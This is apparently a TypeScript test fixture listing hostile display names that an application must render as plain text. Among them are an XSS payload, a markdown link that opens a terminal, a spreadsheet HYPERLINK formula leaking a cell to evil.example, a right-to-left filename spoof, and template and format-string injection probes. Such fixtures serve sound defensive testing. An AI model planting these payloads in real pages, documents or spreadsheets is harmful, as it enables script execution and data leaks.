/** Display names that try to be something else. Each occurs in the sample, and must stay a name everywhere. */
export const hostileNames: readonly string[] = [
  '<img src=x onerror=alert(document.domain)>',
  '[x](command:workbench.action.terminal.new)',
  '=HYPERLINK("https://evil.example/?leak="&A1,"open")',
  'https://evil.example/x',
  '$(sync~spin) loading',
  '``` `````` `code` ```` ~~~~',
  '\u202Egnp.exe\u202C \u2066right to left\u2069',
  'first line\r\nsecond line\n# a heading',
  '@{displayName=cut; id=1}',
  '{{7*7}} ${process.exit()} %s %n',
  'x'.repeat(9_990) + ' ends here',
];
